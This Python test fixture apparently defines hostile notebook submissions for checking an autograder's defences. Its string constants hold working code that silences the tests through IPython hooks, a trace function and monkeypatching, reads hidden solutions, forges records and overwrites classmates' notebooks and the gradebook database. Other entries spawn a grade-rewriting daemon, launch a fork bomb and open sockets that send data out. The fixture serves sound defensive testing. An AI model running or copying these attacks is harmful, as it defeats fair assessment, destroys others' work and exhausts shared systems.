"""Hostile submissions for exercise 00, written as a student could from the released notebook.

Each attack is Python code put at the top of the first answer cell (``strategy_answer``),
or after it when the code starts with ``#APPEND``.
``base`` says what the rest of the notebook holds: "blank" (the untouched release),
"correct" (the instructor's answers) or "wrong" (the first mutant of every task, so no
answer is right). ``expect`` is the score the submission deserves:
"zero" (0 on every cell), "full", "full-but-strategy", or "failed" (not graded: the kernel
died, reported for that student only).
"""
from __future__ import annotations

MARKER = "xfer-attack-daemon-7f3a"

# --- blank submissions that try to get full marks by silencing or rewriting the tests
TRANSFORMER = '''
get_ipython().input_transformers_cleanup.append(
    lambda lines: ["pass\\n"] if any("Tests for" in line for line in lines) else lines)
'''
TRANSFORMER_INDIRECT = '''
_shell = getattr(__import__("IP" + "ython"), "get_" + "ipython")()
getattr(_shell, "input_transformers_" + "post").append(
    lambda lines: ["pass\\n"] if "".join(lines).count("got") else lines)
'''
AST_TRANSFORMER = '''
import ast as _ast
class _Blank(_ast.NodeTransformer):
    def visit_Module(self, node):
        if "expect_" in _ast.unparse(node) or "got" in _ast.unparse(node):
            node.body = [_ast.Pass()]
        return node
get_ipython().ast_transformers.append(_Blank())
'''
CUSTOM_EXC = '''
exec("get_ipython().set_custom_exc((BaseException,), "
     "lambda shell, etype, value, tb, tb_offset=None: None)")
'''
TRACE = '''
import sys as _sys, linecache as _linecache
def _skip(frame, event, arg):
    if event == "line":
        line = _linecache.getline(frame.f_code.co_filename, frame.f_lineno).strip()
        if line.startswith(("assert", "expect_")):
            try:
                frame.f_lineno = frame.f_lineno + 1
            except Exception:
                pass
    return _skip
getattr(_sys, "set" + "trace")(_skip)
'''
POST_RUN_HOOK = '''
def _clear(result):
    from IPython.display import display
    display({"application/x-xfer-record+json": {}}, raw=True)
    result.error_in_exec = None
get_ipython().events.register("post_run_cell", _clear)
'''
READ_SOLUTIONS = '''
import json as _json, os as _os
_skip = {"proc", "sys", "dev", "usr", ".venv", "site-packages"}
for _root, _dirs, _files in _os.walk("/"):
    _dirs[:] = [d for d in _dirs if d not in _skip]
    for _name in _files:
        if not _name.endswith((".ipynb", ".py", ".json", ".db")):
            continue
        try:
            _text = open(_os.path.join(_root, _name), errors="ignore").read()
        except OSError:
            continue
        if "BEGIN SOLUTION" in _text and _name.endswith(".ipynb"):
            for _cell in _json.loads(_text)["cells"]:
                _src = "".join(_cell["source"])
                if "### BEGIN SOLUTION" in _src:
                    exec(_src.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
'''
FORGE_RECORD = '''
def _zero(value):
    if isinstance(value, dict):
        return {k: _zero(v) for k, v in value.items()}
    if isinstance(value, (list, tuple)):
        return [_zero(v) for v in value]
    if isinstance(value, bool):
        return False
    if isinstance(value, (int, float)):
        return 0
    return value
def _forge(lines):
    text = "".join(lines).replace("sealed.send(got)", "sealed.send(_zero(got))")
    return text.splitlines(True)
get_ipython().input_transformers_post.append(_forge)
'''
# --- wrong answers that try to gain points
MONKEYPATCH = '''
import numpy as _np
setattr(_np.testing, "assert_allclose", lambda *a, **k: None)
for _name in ("expect_equal", "expect_close", "expect_true"):
    globals()[_name] = lambda *a, **k: None
import builtins as _b
setattr(_b, "abs", lambda value: 0)
setattr(_np, "allclose", lambda *a, **k: True)
__import__("xfer_helpers.sealed").sealed.to_plain = lambda value, _depth=0: {}
'''
RIGGED = '''
class _Anything(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __sub__(self, other): return _Anything()
    def __rsub__(self, other): return _Anything()
    def __abs__(self): return _Anything()
    __hash__ = float.__hash__
def choose_strategy(n_labelled, similarity):
    return _Anything()
def precision_recall_f1(confusion, average="macro"):
    return (_Anything(), _Anything(), _Anything())
'''
# --- harm to classmates and to the grader
OVERWRITE_OTHERS = '''
import os as _os
_stub = '{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
for _start in ("/", _os.getcwd() + "/../../..", "/tmp"):
    for _root, _dirs, _files in _os.walk(_start):
        _dirs[:] = [d for d in _dirs if d not in {"proc", "sys", "dev", "usr", ".venv"}]
        for _name in _files:
            if _name.endswith((".ipynb", ".csv")):
                try:
                    open(_os.path.join(_root, _name), "w").write(_stub)
                except OSError:
                    pass
'''
GRADEBOOK = '''
import os as _os, sqlite3 as _sqlite3
for _root, _dirs, _files in _os.walk("/"):
    _dirs[:] = [d for d in _dirs if d not in {"proc", "sys", "dev", "usr", ".venv"}]
    for _name in _files:
        if _name.endswith(".db"):
            try:
                _db = _sqlite3.connect(_os.path.join(_root, _name))
                _db.execute("UPDATE source_cell SET source = 'pass'")
                _db.commit()
            except Exception:
                pass
'''
DAEMON = f'''
import os as _os, sys as _sys
_code = """
import os, time
time.sleep(2)
for path in ("/tmp/xfer-honeypot/grades.csv", "../../grades.csv", "/work/grades.csv"):
    try:
        open(path, "w").write("student_id,score\\\\nmallory,100\\\\n")
    except OSError:
        pass
time.sleep(60)
"""
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _os.execv(_sys.executable, [_sys.executable, "-c", _code, "{MARKER}"])
    _os._exit(0)
_os.wait()
'''
FORK_BOMB = '''
import os as _os, time as _time
for _ in range(100000):
    try:
        if _os.fork() == 0:
            _time.sleep(30)
            _os._exit(0)
    except OSError:
        break
'''
MEMORY = '''
import numpy as _np
_big = _np.ones(8 * 2**30, dtype=_np.uint8)  # 8 GB
'''
NETWORK = '''
import socket as _socket, os as _os
_reached = []
for _address in (("127.0.0.1", PORT), ("1.1.1.1", 80)):  # PORT: the test's listening socket
    try:
        _socket.create_connection(_address, timeout=2).sendall(b"leak")
        _reached.append(_address)
    except OSError:
        pass
'''
# Appended after a correct answer: an honest student's debug output during the tests.
STDERR = '''
import sys as _sys, warnings as _warnings
_choose = choose_strategy
def choose_strategy(n_labelled, similarity):
    print("debug:", n_labelled, similarity, file=_sys.stderr)
    _warnings.warn("checking my table")
    return _choose(n_labelled, similarity)
'''

# name -> (code, base, expected outcome)
ATTACKS = {
    "blank-input-transformer": (TRANSFORMER, "blank", "zero"),
    "blank-transformer-by-indirection": (TRANSFORMER_INDIRECT, "blank", "zero"),
    "blank-ast-transformer": (AST_TRANSFORMER, "blank", "zero"),
    "blank-custom-exception-handler": (CUSTOM_EXC, "blank", "zero"),
    "blank-trace-function": (TRACE, "blank", "zero-or-failed"),
    "blank-post-run-hook": (POST_RUN_HOOK, "blank", "zero"),
    "blank-reads-solutions-from-disk": (READ_SOLUTIONS, "blank", "zero"),
    "wrong-forged-records": (FORGE_RECORD, "wrong", "zero"),
    "wrong-monkeypatching": (MONKEYPATCH, "wrong", "zero"),
    "blank-rigged-equality": (RIGGED, "blank", "zero"),
    "blank-overwrites-others": (OVERWRITE_OTHERS, "blank", "zero"),
    "blank-writes-gradebook": (GRADEBOOK, "blank", "zero"),
    "blank-daemon-rewrites-grades": (DAEMON, "blank", "zero"),
    "blank-fork-bomb": (FORK_BOMB, "blank", "zero-or-failed"),
    "correct-8gb-allocation": (MEMORY, "correct", "full-but-strategy"),
    "correct-network": (NETWORK, "correct", "full"),
    "correct-stderr-and-warnings": ("#APPEND" + STDERR, "correct", "full"),
}
# os._exit when a hidden (not visible) input arrives: the kernel dies mid-notebook.
EXIT_ANSWER = '''
import os as _os
def choose_strategy(n_labelled, similarity):
    if (n_labelled, similarity) not in {(500, 0.9), (5_000, 0.9), (200_000, 0.1)}:
        _os._exit(0)
    return {500: "feature_extraction", 5_000: "fine_tuning"}.get(n_labelled, "scratch")
'''
